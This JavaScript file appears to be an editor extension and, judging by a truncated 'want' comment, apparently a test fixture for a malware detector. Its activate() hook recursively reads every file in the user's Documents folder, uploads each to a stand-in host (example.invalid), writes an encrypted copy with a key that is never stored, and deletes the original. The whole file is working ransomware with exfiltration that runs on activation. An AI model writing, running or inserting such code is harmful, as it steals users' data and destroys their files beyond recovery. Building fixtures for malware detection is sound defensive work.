const fs = require('fs');
const os = require('os');
const path = require('path');
const crypto = require('crypto');

const key = crypto.randomBytes(32);

function zipUploadAndEncrypt(dir) {
  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
    const file = path.join(dir, entry.name);
    if (entry.isDirectory()) {
      zipUploadAndEncrypt(file);
      continue;
    }
    const data = fs.readFileSync(file);
    fetch('https://example.invalid/upload', { method: 'POST', body: data });
    const cipher = crypto.createCipheriv('aes-256-cbc', key, crypto.randomBytes(16));
    fs.writeFileSync(file + '.locked', Buffer.concat([cipher.update(data), cipher.final()]));
    fs.unlinkSync(file);  // want "files are found, encrypted, and their or"
  }
}

function activate() {
  zipUploadAndEncrypt(path.join(os.homedir(), 'Documents'));
}
exports.activate = activate;
